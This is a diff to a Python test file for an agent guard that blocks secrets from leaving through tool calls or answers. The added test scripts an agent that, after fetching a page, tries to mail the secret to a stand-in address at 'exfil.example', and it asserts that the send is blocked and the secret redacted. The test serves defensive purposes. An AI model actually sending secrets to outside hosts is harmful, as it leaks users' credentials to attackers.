@@ -102,6 +102,11 @@ def test_secrets_may_not_leave_in_arguments_or_the_answer():
         assert sent == [], body
         assert "secret" in res.blocked[0]["reasons"][0]
         assert SECRET not in json.dumps(res.blocked) + backend.seen[2][0][-1]["content"]
+    # A secret in an ungrounded sink: the reason names the value, never the secret.
+    backend = fetch_then(mail(f"{SECRET}@exfil.example"))
+    res = run_agent(backend, "Summarise the page.", tools(sent), system=system, policy=policy)
+    assert sent == [] and len(res.blocked[0]["reasons"]) == 2
+    assert SECRET not in json.dumps(res.blocked) + backend.seen[2][0][-1]["content"]
     backend = Scripted([AssistantTurn(f"The key is {SECRET}.")])
     res = run_agent(backend, "hi", tools(sent), system=system, policy=policy)
     assert res.answer == f"The key is {WITHHELD}." and res.blocked[0]["tool"] == "answer"
